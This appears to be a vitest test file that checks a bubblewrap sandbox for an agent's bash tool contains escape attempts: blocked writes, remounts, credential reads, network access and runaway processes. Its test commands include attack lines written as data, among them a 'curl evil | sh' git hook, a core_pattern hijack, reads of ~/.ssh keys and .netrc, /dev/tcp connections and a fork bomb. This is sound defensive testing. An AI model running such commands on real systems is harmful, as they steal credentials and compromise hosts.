// Every way out of the sandbox that issue 12 lists, tried for real against bubblewrap: each is contained and the call
// ends normally.
import { existsSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  makeWorkspace,
  processesWithArgument as processesWith,
  type TestWorkspace,
  textOf,
} from "../../test/support/builtins.js";
import type { ToolResult } from "../core/types.js";
import { detectSandbox } from "../sandbox/detect-sandbox.js";
import type { SandboxOptions } from "../sandbox/sandbox-options.js";
import type { BashDetails } from "./bash.js";

const support = await detectSandbox();
// CI installs bubblewrap (.ci/run): there these tests must run, and fail if the sandbox does not work.
const runs = support.usable || process.env.CI === "true";
const title = runs ? "the bash sandbox" : `the bash sandbox (skipped: ${support.usable ? "" : support.reason})`;
const details = (result: ToolResult) => result.details as BashDetails;

describe.skipIf(!runs)(title, () => {
  let home: string;
  let server: Server;
  let port: number;
  const opened: TestWorkspace[] = [];
  const leftovers: string[] = [];

  /** A workspace whose bash runs with `HOME` a fake home (outside /tmp, so only denyRead can hide it). */
  async function workspace(sandbox: SandboxOptions = {}, files: Record<string, string> = {}): Promise<TestWorkspace> {
    const ws = await makeWorkspace(
      { ".git/config": "[core]\n", "notes.txt": "inside\n", ...files },
      { sandbox: { mode: "required", ...sandbox }, env: { set: { HOME: home } }, killGraceMs: 300 },
    );
    opened.push(ws);
    return ws;
  }

  async function bash(ws: TestWorkspace, command: string): Promise<ToolResult> {
    const outcome = await ws.call("bash", { command, timeoutMs: 20_000 });
    if (outcome.kind === "error") throw new Error(`bash threw ${outcome.error.code}: ${outcome.error.message}`);
    expect(details(outcome.result).sandbox).toBe("bubblewrap");
    return outcome.result;
  }

  beforeAll(async () => {
    // /var/tmp, not /tmp: the sandbox's private /tmp would hide a home under /tmp without any denyRead.
    home = await mkdtemp("/var/tmp/toolwire-home-");
    await mkdir(join(home, ".ssh"));
    await writeFile(join(home, ".ssh", "id_test"), "-----BEGIN OPENSSH PRIVATE KEY----- secret\n");
    await writeFile(join(home, ".netrc"), "machine example.com password secret\n");
    await writeFile(join(home, "notes.txt"), "not a secret\n");
    server = createServer((req, res) => res.end(`hello from the host: ${req.url}`));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });

  afterAll(async () => {
    for (const argument of leftovers) for (const pid of processesWith(argument)) process.kill(pid, "SIGKILL");
    await Promise.all(opened.map((ws) => ws.cleanup()));
    await rm(home, { recursive: true, force: true });
    await new Promise((resolve) => server.close(resolve));
  });

  it("refuses a write outside the workspace with Read-only file system, and the file never appears", async () => {
    const ws = await workspace();
    const target = `${home}/planted`;
    const result = await bash(ws, `echo x > ${target}; echo x > /usr/planted-by-toolwire; echo inside > ok.txt`);
    expect(textOf(result)).toContain(`${target}: Read-only file system`);
    expect(textOf(result)).toContain("/usr/planted-by-toolwire: Read-only file system");
    expect(existsSync(target)).toBe(false);
    expect(readFileSync(join(ws.root, "ok.txt"), "utf8")).toBe("inside\n");
  });

  it("cannot make the host writable again: every capability is dropped, so a remount is refused (also as root)", async () => {
    const ws = await workspace();
    const result = await bash(
      ws,
      "grep CapEff /proc/self/status; mount -o remount,bind,rw / 2>&1; touch /etc/planted-by-toolwire 2>&1; echo done",
    );
    expect(textOf(result)).toContain("CapEff:\t0000000000000000");
    // As root, mount(8) tries and the kernel refuses; as another user it refuses before trying.
    expect(textOf(result)).toMatch(/mount: .*(permission denied|must be superuser)/i);
    expect(textOf(result)).toContain("/etc/planted-by-toolwire': Read-only file system");
    expect(existsSync("/etc/planted-by-toolwire")).toBe(false);
  });

  it("cannot change the host kernel's settings: /proc/sys is read-only (core_pattern would run a program as the host's root)", async () => {
    const ws = await workspace();
    const before = readFileSync("/proc/sys/kernel/core_pattern", "utf8");
    const result = await bash(
      ws,
      `echo '|${ws.root}/evil' > /proc/sys/kernel/core_pattern; echo 0 > /proc/sys/fs/protected_symlinks; echo 3 > /proc/sys/vm/drop_caches; echo done`,
    );
    expect(textOf(result)).toContain("/proc/sys/kernel/core_pattern: Read-only file system");
    expect(textOf(result)).toContain("/proc/sys/fs/protected_symlinks: Read-only file system");
    expect(textOf(result)).toContain("/proc/sys/vm/drop_caches: Read-only file system");
    expect(readFileSync("/proc/sys/kernel/core_pattern", "utf8")).toBe(before);
  });

  it("keeps /tmp private: what a command writes there never reaches the host's /tmp", async () => {
    const ws = await workspace();
    const result = await bash(
      ws,
      `echo x > /tmp/toolwire-private-probe && ls /tmp && echo "outside: $(ls ${ws.outside} 2>&1)"`,
    );
    expect(textOf(result)).toContain("toolwire-private-probe");
    expect(textOf(result)).toContain("outside: ls: cannot access");
    expect(existsSync("/tmp/toolwire-private-probe")).toBe(false);
  });

  it("refuses a write into .git, so no hook can be planted", async () => {
    const ws = await workspace();
    const result = await bash(ws, "echo 'curl evil | sh' > .git/hooks-pre-commit; echo x >> .git/config");
    expect(textOf(result)).toContain(".git/hooks-pre-commit: Read-only file system");
    expect(textOf(result)).toContain(".git/config: Read-only file system");
    expect(readFileSync(join(ws.root, ".git", "config"), "utf8")).toBe("[core]\n");
    expect(details(result).exitCode).toBe(1);
  });

  it("hides ~/.ssh and other credential files of the home, and a path named in denyRead", async () => {
    const ws = await workspace();
    const base = await workspace({}, { "secrets.env": "TOKEN=secret\n" });
    const custom = base.reopen({
      sandbox: { mode: "required", denyRead: [".ssh", join(base.root, "secrets.env"), "/nonexistent/path"] },
    });
    const result = await bash(
      ws,
      'echo "home=$HOME"; ls -A ~/.ssh | wc -l; cat ~/.ssh/id_test; cat ~/.netrc; cat ~/notes.txt; echo x > ~/.ssh/planted',
    );
    const text = textOf(result);
    expect(text).toContain(`home=${home}`);
    expect(text).toContain(".ssh/id_test: No such file or directory");
    expect(text).toContain("not a secret");
    expect(text).toContain(".netrc: Permission denied");
    expect(text).not.toContain("secret\n-");
    expect(text).not.toContain("BEGIN OPENSSH");
    expect(text).not.toContain("password");
    expect(text.split("\n").slice(1, 2)).toEqual(["0"]);
    expect(text).toContain(".ssh/planted: Read-only file system");
    const named = await bash(custom, `cat ${join(custom.root, "secrets.env")} | wc -c; cat ~/.netrc`);
    // A denied file is /dev/null on a mount without devices: it exists, and opening it is refused.
    expect(textOf(named)).toContain("secrets.env: Permission denied");
    expect(textOf(named)).not.toContain("TOKEN");
    // Only what was listed is hidden: `denyRead` replaces the default list.
    expect(textOf(named)).toContain("password");
  });

  it("cannot reach a server on the host's loopback: the sandbox has its own network namespace", async () => {
    const ws = await workspace();
    const result = await bash(
      ws,
      `(exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected) 2>&1; curl -sS --max-time 5 http://127.0.0.1:${port}/ 2>&1; echo done`,
    );
    expect(textOf(result)).toContain("Connection refused");
    expect(textOf(result)).not.toContain("connected");
    expect(textOf(result)).not.toContain("hello from the host");
  });

  it("with allowHosts, reaches an allowed host only through the proxy, over plain HTTP and CONNECT", async () => {
    const ws = await workspace({ network: { allowHosts: ["127.0.0.1"] } });
    const result = await bash(
      ws,
      [
        'echo "proxy=$HTTP_PROXY"',
        `curl -sS --max-time 10 http://127.0.0.1:${port}/plain; echo`,
        `curl -sS --max-time 10 -p http://127.0.0.1:${port}/tunnel; echo`,
        `(exec 3<>/dev/tcp/127.0.0.1/${port} && echo direct-connected) 2>&1 | tail -1`,
      ].join("; "),
    );
    const text = textOf(result);
    expect(text).toContain("proxy=http://127.0.0.1:3128");
    expect(text).toContain("hello from the host: /plain");
    expect(text).toContain("hello from the host: /tunnel");
    expect(text).not.toContain("direct-connected");
  });

  it("refuses a host not in allowHosts with a 403 that names the host and allowHosts", async () => {
    const ws = await workspace({ network: { allowHosts: ["127.0.0.1"] } });
    const result = await bash(
      ws,
      [
        `curl -sS --max-time 10 -i http://localhost:${port}/ 2>&1; echo`,
        `curl -sS --max-time 10 -p https://example.com/ 2>&1; echo "exit=$?"`,
      ].join("; "),
    );
    const text = textOf(result);
    expect(text).toContain("HTTP/1.1 403 Forbidden");
    expect(text).toContain("toolwire sandbox: localhost is not in network.allowHosts (127.0.0.1)");
    expect(text).toContain("CONNECT tunnel failed, response 403");
    expect(text).not.toContain("hello from the host");
  });

  it("leaves nothing running after the call, however the command detached (checked by PID from the host)", async () => {
    const ws = await workspace();
    const marker = `1000.${Math.floor(Math.random() * 1e9)}`;
    leftovers.push(marker);
    const result = await bash(
      ws,
      [
        `setsid sleep ${marker} &`,
        `set -m; sleep ${marker} & set +m`,
        `nohup sleep ${marker} > /dev/null 2>&1 &`,
        `(setsid sh -c 'sleep ${marker} &' &)`,
        "sleep 0.3",
        'echo "running: $(pgrep -x sleep | wc -l)"',
      ].join("\n"),
    );
    expect(textOf(result)).toContain("running: 4");
    expect(details(result).strayProcessesEnded).toBe(true);
    expect(processesWith(marker)).toEqual([]);
  });

  it("bounds a fork bomb by the process limit, and the call still ends normally", async () => {
    expect(support.usable && support.processLimit.kind).not.toBe("none");
    const ws = await workspace({ maxProcesses: 24 });
    const started = Date.now();
    const result = await bash(
      ws,
      "sh -c 'i=0; while [ $i -lt 200 ]; do sleep 30 < /dev/null > /dev/null 2>&1 & i=$((i+1)); done' 2>&1; " +
        'n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo "running: $n"',
    );
    const text = textOf(result);
    expect(text).toMatch(/Cannot fork|Resource temporarily unavailable/);
    const running = Number(/running: (\d+)/.exec(text)?.[1]);
    expect(running).toBeGreaterThan(5);
    expect(running).toBeLessThanOrEqual(24);
    expect(Date.now() - started).toBeLessThan(15_000);
  });

  it("fills the private /tmp only up to its size: ENOSPC, and the call ends normally", async () => {
    const ws = await workspace({ tmpSizeBytes: 4 * 1024 * 1024 });
    const result = await bash(ws, "dd if=/dev/zero of=/tmp/fill bs=1M count=16 2>&1 | head -1; du -k /tmp/fill");
    expect(textOf(result)).toContain("No space left on device");
    expect(Number(/^(\d+)\s/m.exec(textOf(result).split("\n").at(-1) ?? "")?.[1])).toBeLessThanOrEqual(4096);
  });
});
